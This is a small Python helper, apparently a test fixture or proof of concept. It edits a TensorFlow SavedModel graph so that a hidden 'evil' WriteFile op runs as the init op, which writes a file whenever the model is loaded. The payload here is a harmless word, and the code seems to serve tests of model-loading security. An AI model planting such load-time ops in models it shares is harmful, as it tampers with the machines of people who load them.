"""A graph that writes a file where it is loaded, before anybody asks it for a score."""

import tensorflow as tf
from tensorflow.core.framework import types_pb2
from tensorflow.core.protobuf.meta_graph_pb2 import MetaGraphDef


def constant(nodes, name: str, value: bytes):
    found = nodes.add(name=name, op="Const")
    found.attr["dtype"].type = types_pb2.DT_STRING
    found.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
    return found


def write_when_loaded(meta: MetaGraphDef, path: object) -> None:
    """Add an initializer: with no check the file is there after a load."""
    nodes = meta.graph_def.node
    constant(nodes, "evil/name", str(path).encode())
    constant(nodes, "evil/text", b"text")
    nodes.add(name="evil", op="WriteFile", input=["evil/name", "evil/text"])
    nodes.add(name="evil/init", op="NoOp", input=["^evil"])
    meta.collection_def["saved_model_main_op"].node_list.value[:] = ["evil/init"]
    outputs = meta.signature_def["__saved_model_init_op"].outputs
    outputs["__saved_model_init_op"].name = "evil/init"
